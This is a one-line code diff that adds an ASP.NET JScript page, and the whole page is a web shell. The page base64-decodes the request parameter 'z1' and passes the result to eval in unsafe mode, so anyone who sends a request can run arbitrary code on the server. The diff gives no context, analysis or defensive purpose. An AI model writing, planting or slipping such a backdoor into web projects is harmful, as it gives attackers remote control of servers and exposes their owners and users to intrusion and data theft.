@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript"%><%eval(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(Request.Item["z1"])),"unsafe");%>
